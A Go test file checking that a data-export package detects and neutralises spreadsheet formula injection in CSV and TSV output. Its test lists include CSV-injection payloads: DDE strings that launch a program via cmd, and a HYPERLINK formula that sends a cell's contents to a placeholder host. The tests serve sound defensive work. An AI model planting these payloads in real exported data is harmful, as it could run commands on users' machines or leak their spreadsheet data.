package export_test

import (
	"encoding/json"
	"strings"
	"testing"

	"odatui/client"
	"odatui/client/export"
)

// formulaTexts are texts that some spreadsheet runs, or takes the first character of.
var formulaTexts = []string{
	"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1)", "==1", "=-1", "=\"a\"", "+1+1", "+cmd|' /C calc'!A0", "+A1", "++5",
	"+49 30 12345",
	"-1+1", "-2+3+cmd|' /C calc'!A0", "-A1", "--5", "-5 apples", "@SUM(1+1)*cmd|' /C calc'!A0", "@x", "\t=1", "\tx", "\r=1", "\rx",
	"\n=1", "\r\n=1",
	" =1", "   @x", "\u00a0=1", "\u3000=1", "\u2003+A1", "\ufeff=1", "\u200b=1", "＝1+1", "＋A1", "－A1", "＠SUM(A1)", " ＝1", "-1e",
	"+3.2e4x", "-A1*2",
}

// plainTexts begin like formulas, and are none.
var plainTexts = []string{
	"-5", "+5", "-5.25", "+3.2e4", "-.5", "-1E-10", "+1e+10", " -5", "-0044-03-15", "-0001-01-01T00:00:00Z", "+12000-01-01", "=", "@", "-",
	"", "a=1", "1-1", "'=1", "(=1)", "ä=1", "😀=1", " x", "\nx", "€-1", "\u00a0", "123", "2024-01-01", "true",
}

// TestFormulas: which texts are counted and defused.
func TestFormulas(t *testing.T) {
	t.Parallel()
	for _, text := range formulaTexts {
		checkFormula(t, text, true)
	}
	for _, text := range plainTexts {
		checkFormula(t, text, false)
	}
}

func checkFormula(t *testing.T, text string, want bool) {
	t.Helper()
	raw, _ := json.Marshal(text)
	p := page(t, []client.Column{{Name: "S", Type: "Edm.String"}}, `{"S":`+string(raw)+`}`)
	found := int64(0)
	o := export.Options{Formulas: func(n int64) { found += n }}
	for _, format := range []string{"csv", "tsv"} {
		found, o.ExcelSafe = 0, false
		as := write(t, format, o, p)
		if (found == 1) != want {
			t.Errorf("%s: %q is counted %d times", format, text, found)
		}
		if as != write(t, format, export.Options{}, p) {
			t.Errorf("%s: %q is changed without being asked for: %q", format, text, as)
		}
		found, o.ExcelSafe = 0, true
		safe := write(t, format, o, p)
		if (found == 1) != want || (safe != as) != want || want && unquoted(safe) != "S\n'"+text+"\n" {
			t.Errorf("%s: %q is made safe as %q, counted %d times", format, text, safe, found)
		}
	}
	o.ExcelSafe, found = true, 0
	for _, format := range []string{"json", "ndjson", "markdown"} {
		if got := write(t, format, o, p); got != write(t, format, export.Options{}, p) || found != 0 {
			t.Errorf("%s of %q: %q, %d counted", format, text, got, found)
		}
	}
}

// unquoted takes the quotes of a field off.
func unquoted(s string) string {
	s = strings.ReplaceAll(s, `""`, "\x00")
	return strings.ReplaceAll(strings.ReplaceAll(s, `"`, ""), "\x00", `"`)
}

// TestFormulasInTypedColumns: a value of a type that is no text is never touched, even if
// the service writes it as a JSON string; names of columns are.
func TestFormulasInTypedColumns(t *testing.T) {
	t.Parallel()
	model := &client.Schema{Types: map[string]*client.Type{
		"NS.Weight": {Kind: client.TypeDefinition, Base: "Edm.Decimal"}, "NS.Note": {Kind: client.TypeDefinition, Base: "Edm.String"},
	}}
	typ := &client.Type{Properties: []client.Property{
		{Name: "D", Type: "Edm.Double"}, {Name: "U", Type: "Edm.Duration"}, {Name: "W", Type: "NS.Weight"}, {Name: "N", Type: "NS.Note"},
		{Name: "E", Type: "NS.Enum"},
	}}
	p := page(t, nil, `{"D":"-INF","U":"-P1D","W":"-1_000","N":"=1","E":"@x","=X":-5,"J":["=1"]}`)
	found := int64(0)
	o := export.Options{Type: typ, Model: model, ExcelSafe: true, Formulas: func(n int64) { found += n }}
	want := "D,U,W,N,E,'=X,J\n-INF,-P1D,-1_000,'=1,'@x,-5,\"[\"\"=1\"\"]\"\n"
	if got := write(t, "csv", o, p); got != want || found != 3 {
		t.Errorf("got %q, %d counted, want %q", got, found, want)
	}
}
